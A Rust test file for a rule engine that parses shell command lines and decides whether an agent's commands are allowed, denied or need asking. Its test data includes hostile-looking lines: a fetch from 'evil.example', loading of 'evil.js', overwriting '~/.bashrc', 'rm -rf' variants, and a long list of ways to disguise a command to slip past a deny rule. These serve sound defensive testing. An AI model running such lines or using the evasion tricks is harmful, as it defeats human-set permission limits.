//! What rules say of command lines, whatever words they are said in.

use super::{allows, decide, denies, rules, run};
use tieline_host::rules::{
    Action, CommandLine, Confined,
    Decision::{Allow, Ask},
    Rule,
};

#[test]
fn lines_are_taken_apart() {
    for (line, expect) in [
        ("git status", &[&["git", "status"][..]][..]),
        ("  git   status  ", &[&["git", "status"]]),
        ("a && b || c; d | e\nf", &[&["a"], &["b"], &["c"], &["d"], &["e"], &["f"]]),
        ("a &&\n b", &[&["a"], &["b"]]),
        ("a;\n\nb;", &[&["a"], &["b"]]),
        ("echo 'a b' \"c d\" e\\ f", &[&["echo", "a b", "c d", "e f"]]),
        ("echo 'it'\\''s' \"\\$x \\n\"", &[&["echo", "it's", "$x \\n"]]),
        ("echo '' \"\"", &[&["echo", "", ""]]),
        ("g'i't st\\\natus", &[&["git", "status"]]),
        ("echo '&& ; | $(x) `y` > z'", &[&["echo", "&& ; | $(x) `y` > z"]]),
        ("cargo test 2>&1", &[&["cargo", "test"]]),
        ("cargo test >/dev/null 2>&1", &[&["cargo", "test"]]),
        ("cargo test 2> /dev/null | tail -5", &[&["cargo", "test"], &["tail", "-5"]]),
        ("x </dev/null", &[&["x"]]),
        ("ls src/*.rs ~/x", &[&["ls", "src/*.rs", "~/x"]]),
        ("echo a#b x=y", &[&["echo", "a#b", "x=y"]]),
    ] {
        let line = CommandLine::parse(line);
        assert_eq!(line.complex(), None, "{line:?}");
        assert_eq!(line.commands().collect::<Vec<_>>(), expect, "{line:?}");
    }
}

const COMPLEX: &[&str] = &[
    "",
    " \n ",
    "echo $(id)",
    "echo `id`",
    "echo \"$(id)\"",
    "echo \"`id`\"",
    "echo $HOME",
    "echo ${HOME}",
    "$CMD x",
    "\"$CMD\" x",
    "echo $'\\x41'",
    "echo $((1+1))",
    "a > file",
    "a >> file",
    "a >file",
    "a > /dev/nullx",
    "a > /dev/null/../x",
    "a >| f",
    "a &> f",
    "a >& f",
    "a <> f",
    "a < file",
    "a << E\nx\nE",
    "a <<< x",
    "a <(b)",
    "a >(b)",
    "a 2>f",
    "a 9>&3",
    "a & b",
    "a &",
    "a |& b",
    "(a)",
    "{ a; }",
    "a() { b; }",
    "echo {a,b}",
    "! a",
    "if a; then b; fi",
    "for x in y; do z; done",
    "while a; do b; done",
    "case a in b) c;; esac",
    "[[ a ]]",
    "[ a ]",
    "echo 'x",
    "echo \"x",
    "echo x\\",
    "a &&",
    "&& a",
    "a | ",
    "| a",
    "a && && b",
    "a;;b",
    "a || ; b",
    "eval x",
    "exec x",
    "source x",
    ". x",
    "command x",
    "builtin x",
    "trap x EXIT",
    "sh -c x",
    "bash x",
    "/bin/sh -c x",
    "zsh",
    "BASH -c x",
    "sudo x",
    "env x",
    "xargs rm",
    "nohup x",
    "timeout 1 x",
    "time x",
    "ssh h x",
    "find . -exec rm {} +",
    "find . -execdir rm x",
    "A=b c",
    "A+=b c",
    "A[0]=b c",
    "A=b",
    "# x",
    "a # b",
    "*",
    "*x a",
    "~/x a",
    "rm *",
    "rm ?x",
    "tar \"\"*",
    "a\rb",
    "a\u{200b} b",
    "a\u{a0}b",
    "a\u{2028}b",
    "a\u{1b}[2Jb",
    "'' a",
    "\"\"",
];

#[test]
fn what_is_not_plain_is_complex() {
    for &line in COMPLEX {
        let parsed = CommandLine::parse(line);
        assert!(parsed.complex().is_some(), "{line:?}: {parsed:?}");
        let action = run(line);
        for rule in ["run *", "run a *", "run echo *", "run sh", "run rm *", "run x *"] {
            if let Ok(rule) = rule.parse::<Rule>() {
                assert!(!allows(rule.text(), &action), "{line:?} by {rule}");
            }
        }
        if !line.trim().is_empty() {
            let exact = Rule::narrowest(&action).unwrap();
            assert_eq!(exact.text(), format!("run-exactly@sandbox {}", line.trim()));
            assert!(allows(exact.text(), &action), "{line:?}");
        }
    }
}

#[test]
fn commands() {
    for (rule, line, expect) in [
        ("run git status", "git status", true),
        ("run git status", "git  'status'", true),
        ("run git status", "git status -s", false),
        ("run git status", "git", false),
        ("run git status", "git statusx", false),
        ("run git status", "./git status", false),
        ("run git status", "/tmp/git status", false),
        ("run git status", "GIT status", false),
        ("run cargo test *", "cargo test", true),
        ("run cargo test *", "cargo test --all -- --nocapture", true),
        ("run cargo test *", "cargo testx", false),
        ("run cargo test *", "cargo", false),
        ("run cargo test *", "cargo test && cargo test -q", true),
        ("run cargo test *", "cargo test && rm -rf x", false),
        ("run cargo test *", "cargo test | sh", false),
        ("run cargo test *", "cargo test; id", false),
        ("run cargo test *", "cargo test\nid", false),
        ("run cargo test *", "cargo test > ~/.bashrc", false),
        ("run cargo test *", "cargo test $(id)", false),
        ("run cargo test *", "CARGO_TARGET_DIR=/ cargo test", false),
        ("run echo 'a b'", "echo \"a b\"", true),
        ("run echo 'a b'", "echo a b", false),
        ("run ls src/*.rs", "ls src/*.rs", true),
        ("run ls src/*.rs", "ls 'src/*.rs'", false),
        ("run ls 'src/*.rs'", "ls src/*.rs", false),
        ("run ls src/*.rs", "ls src/a.rs", false),
        ("run *", "anything at all", true),
        // What a rule itself says may run or write, but not what its `*` stands for.
        ("run git log *", "git log --oneline -p", true),
        ("run git log *", "git log --output=x", false),
        ("run git log --output=x", "git log --output=x", true),
        ("run make -C sub *", "make -C sub test -j4", true),
        ("run make -C sub *", "make -C sub -f x", false),
        ("run git grep *", "git grep -O id", false),
        ("run git -C x *", "git -C x log", true),
        ("run git -C x *", "git -C x -c a=b log", false),
        ("run git config *", "git config core.pager id", false),
        ("run sudo apt update", "sudo apt update", true),
        ("run sudo *", "sudo apt update", false),
        ("run npm test *", "npm test --script-shell=x", false),
        ("run sed -n 5p *", "sed -n 5p x", true),
        // Behind what starts it, a program is judged as by itself, also one that nobody knows.
        ("run prettier *", "prettier --plugin=./x .", false),
        ("run npx prettier *", "npx prettier --check .", true),
        ("run npx prettier *", "npx prettier --plugin=./x .", false),
        ("run npx -y prettier *", "npx -y prettier --config x .", false),
        ("run pnpm dlx tool *", "pnpm dlx tool --require ./x", false),
        ("run pnpm exec tool *", "pnpm exec tool --loader=x", false),
        ("run yarn dlx tool *", "yarn dlx tool --output=x", false),
        ("run bunx tool *", "bunx tool --plugin x", false),
        ("run npm exec tool *", "npm exec tool -- --eval x", false),
        ("run uv run tool *", "uv run tool --check", true),
        ("run uv run tool *", "uv run tool --config-file x", false),
        ("run uvx tool *", "uvx tool --exec x", false),
        ("run poetry run tool *", "poetry run tool --shell x", false),
        ("run pipx run tool *", "pipx run tool --import x", false),
        ("run nix run nixpkgs#tool *", "nix run nixpkgs#tool -- --command x", false),
        ("run nix build *", "nix build --option builders x", false),
        ("run docker run x tool *", "docker run x tool --outdir=x", false),
        ("run docker ps *", "docker ps -a", true),
        ("run docker ps *", "docker ps --host tcp://x", false),
        ("run dotnet test *", "dotnet test --settings x", false),
        ("run mvn test *", "mvn test -Dtest=A", true),
        ("run mvn test *", "mvn test org.evil:plugin:1:run", false),
        ("run deno test *", "deno test https://evil.example/x.ts", false),
        ("run node *", "node --eval x", true),
        ("run npx *", "npx prettier --config x", true),
        // Who allows an interpreter with a word of its own does not allow all of it.
        ("run node --check *", "node --check ok.js", true),
        ("run node --check *", "node --check -r ./evil.js ok.js", false),
        ("run node --test *", "node --test --test-reporter=./x --test-reporter-destination=y", false),
        ("run node --test *", "node --test --test-reporter=./x", false),
        ("run node --test *", "node --test --test-reporter=spec", true),
        ("run node --test *", "node --test --test-global-setup=x", false),
        ("run node --test *", "node --test -e x", false),
        ("run node --test *", "node --test --experimental-config-file=x", false),
        ("run php -l *", "php -l x.php", true),
        ("run php -l *", "php -l -d auto_prepend_file=x y.php", false),
        ("run php -l *", "php -l -z x.so y.php", false),
        ("run php8.3 -l *", "php8.3 -l -z x.so y.php", false),
        ("run ruby -c *", "ruby -c x.rb", true),
        ("run ruby -c *", "ruby -c -r./evil x.rb", false),
        ("run ninja -C build *", "ninja -C build test", true),
        // In another folder only `run *` counts.
        ("run cd *", "cd /tmp", true),
        ("run *", "cd /tmp; npm test", true),
        ("run env *", "env id", false),
        ("run xargs *", "xargs id", false),
        ("run ssh x *", "ssh x id", false),
        ("run find . *", "find . -exec id +", false),
        ("run-exactly a > b", "a > b", true),
        ("run-exactly a > b", " a > b\n", true),
        ("run-exactly a > b", "a  > b", false),
        ("run-exactly cargo test", "cargo test", true),
    ] {
        assert_eq!(allows(rule, &run(line)), expect, "{rule:?} {line:?}");
    }
    let two = rules(&["run a *", "run b"], &[], &[]);
    assert_eq!(decide(&two, &run("a x | b")), Allow);
    assert_eq!(decide(&two, &run("a x | b | c")), Ask);
    let moving = rules(&["run cd *", "run npm test *", "run ls"], &[], &[]);
    for line in ["cd /tmp; npm test", "cd x && npm test", "ls && cd x && ls", "cd x\nnpm test"] {
        assert_eq!(decide(&moving, &run(line)), Ask, "{line}");
    }
    assert_eq!(decide(&moving, &run("npm test && cd x")), Allow);
    for (rule, line, expect) in [
        ("run git push", "git push", true),
        ("run git push", "git push -f origin", true),
        ("run git push", "git pushx", false),
        ("run git push", "git status && git push", true),
        ("run git push", "/usr/bin/git push", true),
        ("run git push", "GIT push", true),
        ("run git push", "sudo git push", true),
        ("run git push", "env A=b git push", true),
        ("run git push", "A=b git push", true),
        ("run git push", "echo $(git push)", true),
        ("run git push", "(git push)", true),
        ("run git push", "sh -c 'git push'", true),
        ("run git push", "sudo sh -c \"cd x; bash -c 'git push'\"", true),
        ("run git push", "if x; then git push; fi", true),
        ("run git push", "echo git push", false),
        ("run git push", "python3 -c \"run(['git', 'push'])\"", true),
        ("run touch *", "/lib64/ld-linux-x86-64.so.2 /usr/bin/touch P", true),
        ("run rm *", "find . -exec rm {} +", true),
        ("run rm *", "/proc/self/exe -c \"rm a\"", true),
        ("run reboot", "newshell -c reboot", true),
        ("run strip *", "install -s --strip-program=strip a b", true),
        ("run sudo *", "sudo -u x id", true),
        ("run sudo *", "cd x && sudo id", true),
        ("run curl -o *", "curl -so x y", true),
        ("run git -c *", "git -C x -c a=b log", true),
        ("run *", "anything", true),
        ("run *", "$x", true),
    ] {
        assert_eq!(denies(rule, &run(line)), expect, "{rule:?} {line:?}");
    }
    assert!(denies("run-exactly a > b", &run("a   >  b")));
    let words = |words: &[&str]| Action::Execute { command: CommandLine::from_words(words), confined: Confined::No };
    assert!(allows("run echo '$(x)'", &words(&["echo", "$(x)"])));
    assert!(allows("run echo *", &words(&["echo", "$(x) > y"])));
    assert!(!allows("run *", &words(&["sh", "-c", "x"])));
    assert!(!allows("run *", &words(&["x", "\u{202e}"])));
}

#[test]
fn a_rule_that_holds_back_is_not_passed_by_other_words_for_the_same() {
    for (rule, lines) in [
        (
            "run git push *",
            &[
                "git -C . push",
                "git --no-pager push origin",
                "git -c a=b push",
                "git -c alias.x=push x",
                "git --git-dir .git --work-tree=. push",
                "git -C push push",
                "git --namespace x -C y -p push",
                "/usr/bin/git -C . 'pu'sh",
                "git pus?",
                "git p* x",
                "env X=1 git -C . push",
                "X=1 git -C . push",
                "command git --no-pager push",
                "nice -n 5 git -C . push",
                "timeout 5 git -C . push",
                "sudo -u me git -C . push",
                "/usr/lib/git-core/git-push origin",
                "git >x push",
                "git x<y push",
                "cd x && git -C y push",
                "sh -c 'git -C . push'",
                "python3 -c \"import os; os.system('git -C . push')\"",
                "npx git push",
                "./wrapper git push",
                // A shell by another name.
                "/proc/self/exe -c 'git push'",
                "/proc/thread-self/exe -c 'git push'",
                "//proc/1/./exe -xec 'git push'",
                "/dev/fd/9 -c 'git push'",
                "echo 'git push' | /proc/self/exe",
                "sh -c \"/proc/self/exe -c 'git push'\"",
                "ln -s /bin/sh x && ./x -c 'git push'",
                "./x -c -u 'git push'",
                "./x -c'git push'",
                "./grep -c 'git push'",
                "bin/echo git push",
                "yash -c 'git push'",
                "rc -c 'git push'",
                "git-shell -c 'git push'",
                "newshell -c 'git push'",
                "newshell -lc 'git push'",
                "newshell --norc -ec 'cd x; git push'",
                "terminal -e 'git push'",
                "terminal -e git push",
                "terminal --eval='git push'",
                "terminal --startup-command 'git push'",
                "flatpak run --command=git x push",
                "docker run --entrypoint git image push",
                "install -s --strip-program='git push' a b",
            ][..],
        ),
        ("run git push --force *", &["git push origin main --force", "git push --forc", "git -C . push --force=x"]),
        (
            "run npm publish *",
            &["npm --silent publish", "npm pub", "npm -s publ x", "npm --tag x publish", "npm -- publish"],
        ),
        (
            "run cargo publish",
            &[
                "cargo -q publish",
                "cargo +stable publish",
                "cargo +stable -Z x publish",
                "rustup run stable cargo publish",
            ],
        ),
        ("run docker push *", &["docker --debug push x", "docker -H tcp://x push y", "docker --config=x push y"]),
        ("run kubectl delete *", &["kubectl -n x delete pod y", "kubectl --context x -n delete delete y"]),
        (
            "run kubectl -n prod delete *",
            &["kubectl delete pod x -n prod", "kubectl -nprod delete x", "kubectl delete x -n=prod"],
        ),
        ("run kubectl delete pod *", &["kubectl -n delete delete pod x"]),
        ("run rm -rf *", &["rm -fr x", "rm -r -f x", "rm x -rf", "rm -rvf x", "/bin/rm -f x -r"]),
        ("run git clean -fdx", &["git clean -xdf", "git -C . clean -d -f -x ."]),
    ] {
        for line in lines {
            assert!(denies(rule, &run(line)), "{rule:?} {line:?}");
        }
    }
    let behind = include_str!("../commands/behind.txt").lines();
    let passed: Vec<&str> = behind.filter(|line| !denies("run curl *", &run(line))).collect();
    assert!(passed.is_empty(), "{passed:#?}");
    for (rule, line) in [
        ("run git push *", "git commit -m push"),
        ("run git push *", "git stash push"),
        ("run git push *", "git log --oneline"),
        ("run git push *", "git add src/*.rs"),
        ("run git push *", "echo git push"),
        ("run git push *", "grep -r git push"),
        ("run git push *", "grep -e 'git push' x"),
        ("run git push *", "/usr/bin/grep -ce 'git push' x"),
        ("run git push *", "rg -e 'git push'"),
        ("run git push *", "sed -n -e '/git push/p' x"),
        ("run git push *", "jq -e '.git | .push' x"),
        ("run git push *", "newtool -m 'git push'"),
        ("run git push *", "newtool -c config.toml build"),
        ("run git push *", "git log --format=%s --grep='git push'"),
        ("run rm *", "wc -c rm"),
        ("run rm *", "newtool -c x rm"),
        ("run git push --force *", "git push origin main"),
        ("run npm publish *", "npm test"),
        ("run rm *", "git rm x"),
        ("run rm -rf *", "rm -r x"),
        ("run curl *", "apt install curl"),
        ("run curl *", "grep -- curl x"),
        ("run curl *", "git commit -m 'use curl here'"),
        ("run curl *", "python3 -c 'print(1)'"),
        ("run curl *", "python3 -c 'print(\"curly\")'"),
        ("run kubectl -n prod delete *", "kubectl -n test delete x"),
    ] {
        assert!(!denies(rule, &run(line)), "{rule:?} {line:?}");
    }
    // However many words there are, and whatever they might mean.
    let long = run(&format!("git {}", "-C push git ".repeat(20_000)));
    assert!(!denies("run git push git push x", &long));
}

/// The `*` of a rule for what builds and tests a project is not for code, settings and programs from elsewhere.
#[test]
fn a_rule_for_a_project_runs_nothing_from_elsewhere() {
    let lines = include_str!("../commands/elsewhere.txt").lines().filter(|line| !line.starts_with('#'));
    let mut wrong = Vec::new();
    for line in lines.filter(|line| !line.is_empty()) {
        let (rule, rest) = line.split_once(" | ").unwrap();
        let (expect, command) = rest.split_once(' ').unwrap();
        if allows(&format!("run {rule} *"), &run(command)) != (expect == "yes") {
            wrong.push(line);
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
